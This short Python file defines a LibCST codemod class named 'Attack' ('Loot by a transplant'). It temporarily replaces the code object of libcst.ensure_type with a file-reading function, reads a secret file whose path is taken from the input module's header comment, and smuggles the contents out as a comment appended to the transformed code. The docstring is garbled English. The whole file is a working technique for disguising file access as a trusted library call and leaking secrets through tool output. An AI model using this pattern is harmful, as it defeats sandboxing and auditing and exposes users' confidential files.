"""Give a function of LibCST's the code of ours, which so runs among LibCST's names."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def donor(path):
    return open(path).read().strip()


def read(path):
    host = cst.ensure_type
    before = host.__code__
    host.__code__ = donor.__code__
    try:
        return host(path)
    finally:
        host.__code__ = before


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a transplant."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
